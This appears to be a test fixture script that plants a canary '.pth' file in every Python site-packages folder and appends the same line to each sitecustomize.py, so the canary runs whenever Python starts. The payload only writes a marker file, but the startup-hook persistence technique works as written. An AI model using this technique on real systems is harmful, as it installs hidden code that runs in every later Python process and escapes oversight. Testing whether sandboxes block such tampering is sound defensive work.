import os
import site
import sys
import sysconfig

# A .pth runs its `import` lines in every Python that starts with this site folder.
PTH = 'import os; open("@@CANARY_DIR@@/hostile-canary-pth-installed", "w").write("ran")\n'
folders = {*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_paths()["purelib"],
           os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])}
for folder in folders:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "hostile-canary.pth"), "w") as f:
            f.write(PTH)
        with open(os.path.join(folder, "sitecustomize.py"), "a") as f:
            f.write(PTH)
    except OSError as exc:
        print("hostile: cannot write into", folder, exc)
